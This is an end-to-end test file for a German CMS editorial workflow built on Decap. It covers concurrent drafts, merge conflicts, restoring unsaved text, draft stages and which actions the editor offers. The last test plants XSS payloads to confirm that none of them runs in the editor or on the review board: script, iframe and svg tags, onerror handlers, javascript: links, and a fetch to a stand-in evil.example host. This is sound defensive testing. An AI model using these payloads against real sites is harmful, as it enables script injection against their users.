/**
 * Drafts side by side: nobody overwrites anybody, nothing of them is lost, only merging moves main, and files
 * that others have put on a branch run nothing.
 */
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';

import type { Editor } from './driver/editor.ts';
import { useRedaktion } from './driver/redaktion.ts';

const redaktion = useRedaktion();

const seite = (titel: string) => ({
  Titel: titel,
  Beschreibung: 'Eine Probe.',
  Sichtbarkeit: 'Öffentlich',
  Text: 'Der erste Satz.',
});
const fileOf = (id: string) => `src/content/seiten/${id}.mdx`;

async function begin(titel: string): Promise<string> {
  const editor = await redaktion.open({ role: 'projekt' });
  await editor.create('seiten', seite(titel));
  return editor.save();
}

async function merge(id: string) {
  const { number } = await redaktion.pullOf(`cms/seiten/${id}`);
  const page = await redaktion.openBoard();
  // The answer comes after the checks, which may have to wait for a core.
  await page.locator(`form[action$="/beitrag/${number}/zusammenfuehren"] button`).click();
  return page;
}

test('of two drafts at once one is merged, and the other stays what it is', async () => {
  const { repository } = redaktion;
  const [one, other] = await Promise.all([redaktion.open(), redaktion.open({ role: 'projekt' })]);
  await Promise.all([
    one.create('seiten', seite('Die eine')),
    other.create('seiten', seite('Die andere')),
  ]);
  await Promise.all([one.save(), other.save()]);
  const head = repository.head('cms/seiten/die-andere');

  const page = await merge('die-eine');
  await page.getByRole('status').filter({ hasText: 'Zusammengeführt.' }).waitFor();
  expect(repository.read('main', fileOf('die-eine'))).toContain('titel: Die eine\n');
  expect(repository.head('cms/seiten/die-andere')).toBe(head);
  expect(repository.changes('cms/seiten/die-andere')).toEqual([`A ${fileOf('die-andere')}`]);

  await other.form.fill({ Text: 'Der zweite Satz.' });
  await other.save();
  expect(repository.changes('cms/seiten/die-andere')).toEqual([`A ${fileOf('die-andere')}`]);
  expect(repository.read('cms/seiten/die-andere', fileOf('die-andere'))).toContain(
    'Der zweite Satz.',
  );
  expect(repository.git('merge-base', 'cms/seiten/die-andere', head)).toBe(head);
});

describe('a conflict', () => {
  test('with what was published meanwhile stops the save and keeps main and the form', async () => {
    const { repository } = redaktion;
    const editor = await redaktion.open();
    await editor.edit('seiten', 'weitere-orte');
    await editor.form.fill({ Beschreibung: 'Meine Beschreibung.' });
    const file = fileOf('weitere-orte');
    const main = repository.commit('main', {
      [file]: repository.read('main', file).replace(/^titel: .*$/m, 'titel: Andere Orte'),
    });

    expect(await editor.saveInVain()).toContain(
      'von diesem Eintrag wurde inzwischen eine neuere Fassung veröffentlicht',
    );
    expect(await editor.form.input('Beschreibung').inputValue()).toBe('Meine Beschreibung.');
    expect(repository.head('main')).toBe(main);
    expect(repository.branches()).not.toContain('cms/seiten/weitere-orte');
  });

  test('that a draft has run into is shown on the board, and main stays', async () => {
    const { repository } = redaktion;
    const file = fileOf('barrierefreiheit');
    const editor = await redaktion.open();
    await editor.edit('seiten', 'barrierefreiheit');
    await editor.form.fill({ Titel: 'Mein Titel' });
    await editor.save();
    const main = repository.commit('main', {
      [file]: repository.read('main', file).replace(/^titel: .*$/m, 'titel: Dein Titel'),
    });

    redaktion.expectTrouble(/409/);
    const page = await merge('barrierefreiheit');
    await page.getByText('Dieselbe Stelle wurde inzwischen auch anderswo geändert.').waitFor();
    await page.getByText('+titel: Dein Titel').waitFor();
    expect(repository.head('main')).toBe(main);
    await redaktion.pullOf('cms/seiten/barrierefreiheit');
  });

  test('of two people in one draft stops the one who comes later, who keeps the text', async () => {
    const { repository } = redaktion;
    const id = await begin('Zu zweit');
    const [first, second] = await Promise.all([
      redaktion.open(),
      redaktion.open({ role: 'projekt' }),
    ]);
    await Promise.all([first.openDraft('seiten', id), second.openDraft('seiten', id)]);
    await first.form.fill({ Beschreibung: 'Vom ersten.' });
    await second.form.fill({ Text: 'Vom zweiten.' });
    await first.save();
    const head = repository.head(`cms/seiten/${id}`);

    expect(await second.saveInVain()).toContain(
      'jemand anders hat diesen Entwurf inzwischen geändert',
    );
    expect(await second.text.inputValue()).toBe('Vom zweiten.');
    expect(repository.head(`cms/seiten/${id}`)).toBe(head);
    expect(repository.read(`cms/seiten/${id}`, fileOf(id))).toContain('Vom ersten.');
  });

  test('of two new entries with one name gives the later one another', async () => {
    const { repository } = redaktion;
    const id = await begin('Derselbe Name');
    expect((await redaktion.pullOf(`cms/seiten/${id}`)).title).toBe(`Neu: Seite „${id}“`);
    const head = repository.head(`cms/seiten/${id}`);
    const editor = await redaktion.open();
    await editor.create('seiten', { ...seite('Derselbe Name'), Text: 'Ein ganz anderer.' });
    const other = await editor.save();
    expect(other).not.toBe(id);
    expect(repository.head(`cms/seiten/${id}`)).toBe(head);
    expect(repository.changes(`cms/seiten/${other}`)).toEqual([`A ${fileOf(other)}`]);
  });
});

describe('unsaved text comes back after the tab was closed', () => {
  test.each([
    ['in a new entry', (editor: Editor) => editor.create('seiten', seite('Noch neu'))],
    ['in a published one', (editor: Editor) => editor.edit('seiten', 'weitere-orte')],
    [
      'in a draft',
      async (editor: Editor) => editor.openDraft('seiten', await begin('Schon begonnen')),
    ],
  ])('%s', async (_, open) => {
    const editor = await redaktion.open({ role: 'projekt' });
    await open(editor);
    const words = 'Ein Satz, der noch nirgends steht.';
    await editor.form.fill({ Text: words });
    await expect.poll(() => listCopies(editor.page)).toContain(words);

    for (const time of ['once', 'twice']) {
      await editor.reload();
      await expect.poll(() => editor.text.inputValue(), { message: time }).toContain(words);
      await editor.page.getByText('Noch nicht gespeichert').first().waitFor();
    }
    const id = await editor.save();
    expect(redaktion.repository.read(`cms/seiten/${id}`, fileOf(id))).toContain(words);
    expect(await listCopies(editor.page)).not.toContain(words);
  });

  /** What Decap has kept in the browser. */
  function listCopies(page: Page): Promise<string> {
    return page.evaluate(
      () =>
        new Promise<string>((resolve, reject) => {
          const opening = indexedDB.open('localforage');
          opening.onerror = () => reject(opening.error ?? new Error('no store'));
          opening.onsuccess = () => {
            const store = opening.result.transaction('keyvaluepairs').objectStore('keyvaluepairs');
            const all = store.getAll();
            all.onsuccess = () => {
              opening.result.close();
              resolve(JSON.stringify(all.result));
            };
          };
        }),
    );
  }
});

describe('the stage of a draft', () => {
  const stages = ['Entwurf', 'In Prüfung', 'Bereit'] as const;

  async function setStage(editor: Editor, from: string, to: string): Promise<void> {
    await editor.page.getByRole('button', { name: `Stand: ${from}` }).click();
    await editor.page.getByRole('menuitem', { name: to }).click();
    await editor.page.getByRole('button', { name: `Stand: ${to}` }).waitFor();
  }

  test('is a label of its pull request, and stands on the board', async () => {
    const id = await begin('Von Stand zu Stand');
    const editor = await redaktion.open({ role: 'projekt' });
    await editor.openDraft('seiten', id);
    const labels = ['decap-cms/draft', 'decap-cms/pending_review', 'decap-cms/pending_publish'];
    for (const [index, stage] of stages.entries()) {
      if (index > 0) await setStage(editor, stages[index - 1] ?? '', stage);
      const pull = await redaktion.pullOf(`cms/seiten/${id}`);
      expect(pull.labels.map(({ name }) => name)).toEqual([labels[index]]);
      const page = await redaktion.openBoard(`beitrag/${pull.number}/`);
      await page.locator('dd').filter({ hasText: stage }).waitFor();
    }
  });

  test('a save leaves a draft at its stage', async () => {
    const id = await begin('Noch ein Satz');
    const editor = await redaktion.open({ role: 'projekt' });
    await editor.openDraft('seiten', id);
    await setStage(editor, 'Entwurf', 'In Prüfung');
    await editor.form.fill({ Text: 'Noch ein Satz.' });
    await editor.save();
    await editor.page.getByRole('button', { name: 'Stand: In Prüfung' }).waitFor();
  });
});

test('a draft that was discarded keeps its commits', async () => {
  const { repository } = redaktion;
  const id = await begin('Doch nicht');
  const commit = repository.head(`cms/seiten/${id}`);
  const { number } = await redaktion.pullOf(`cms/seiten/${id}`);
  const editor = await redaktion.open();
  await editor.openDraft('seiten', id);
  await editor.page.getByRole('button', { name: 'Verwerfen' }).click();
  await editor.page.getByText('Der Entwurf ist verworfen').waitFor();

  expect((await redaktion.pulls()).map((pull) => pull.number)).not.toContain(number);
  expect(repository.git('rev-list', '--all').split('\n')).toContain(commit);
  expect(repository.read(commit, fileOf(id))).toContain('Doch nicht');
});

test('the page of the drafts opens', async () => {
  const editor = await redaktion.open();
  await editor.openStages();
  for (const stage of ['Entwurf', 'In Prüfung', 'Bereit']) {
    await editor.page.getByRole('heading', { name: stage }).waitFor();
  }
});

test('publishing, deleting and a store of files are offered nowhere', async () => {
  const editor = await redaktion.open();
  await editor.openList('seiten');
  expect(await offersOf(editor)).toEqual([]);
  await editor.edit('seiten', 'impressum');
  await editor.page.getByRole('button', { name: 'Veröffentlicht' }).click();
  // The state only: actions on it would be in its menu.
  expect(await offersOf(editor)).toEqual(['Veröffentlicht']);
  await editor.create('seiten', { Titel: 'Nur ein Entwurf', Beschreibung: 'Eine Probe.' });
  const id = await editor.save();
  await editor.page.getByRole('button', { name: 'Stand: Entwurf' }).click();
  expect(await offersOf(editor)).toEqual([]);
  await editor.openStages();
  await editor.page.locator(`a[href*="/entries/${id}?"]`).waitFor();
  expect(await offersOf(editor)).toEqual([]);
});

test('a draft that was not written in the editor runs nothing there and on the board', async () => {
  const { api, repository } = redaktion;
  const head = 'cms/seiten/boese';
  repository.commit(head, { [hostileFile]: hostileText });
  const { json } = await api.call('POST', '/pulls', {
    title: 'Boese',
    head,
    base: 'main',
    body: attack,
  });
  const { number } = json as unknown as { number: number };
  await api.call('PUT', `/issues/${number}/labels`, { labels: ['decap-cms/draft'] });

  const editor = await redaktion.open();
  await editor.openDraft('seiten', 'boese');
  // The text is there to be put right, as it is.
  expect(await editor.text.inputValue()).toContain('<script>');
  await editor.pane
    .getByRole('status')
    .filter({ hasText: /Geprüft: .*berichtigen/ })
    .waitFor();
  await editor.page.waitForTimeout(500);
  expect(await editor.page.evaluate(() => 'hacked' in window)).toBe(false);
  const links = await editor.preview.locator('[href^="javascript:" i], script, iframe').count();
  expect(links).toBe(0);

  const board = await redaktion.openBoard(`beitrag/${number}/`);
  await board.getByText('<script>').first().waitFor();
  expect(await board.evaluate(() => 'hacked' in window)).toBe(false);
  const merge = board.locator(`form[action$="/zusammenfuehren"] button`);
  if (await merge.isVisible()) {
    redaktion.expectTrouble(/409|422/);
    const main = repository.head('main');
    await merge.click();
    await board.waitForLoadState();
    expect(repository.head('main')).toBe(main);
  }
});

const attack = "window.top.hacked=1;alert(1);fetch('https://evil.example/')";
const hostileFile = 'src/content/seiten/boese.mdx';
const hostileText = `---
titel: 'Harmlos <img src=x onerror="${attack.replaceAll("'", "''")}">'
beschreibung: Eine Probe.
sichtbarkeit: oeffentlich
---

Davor <img src=x onerror="${attack}"> [Weg](javascript:${attack})

<svg onload="${attack}"><a xlink:href="javascript:${attack}"><text>Hier</text></a></svg>

<script>${attack}</script>

<iframe srcdoc="<script>top.hacked=1</script>"></iframe>

{window.top.hacked = 1}
`;

async function offersOf(editor: Editor): Promise<string[]> {
  const name = /veröffentlich|löschen|medien|publish|delete|media/i;
  const roles = ['button', 'link', 'menuitem'] as const;
  const found = await Promise.all(
    roles.map((role) => editor.page.getByRole(role, { name }).allInnerTexts()),
  );
  return found.flat();
}
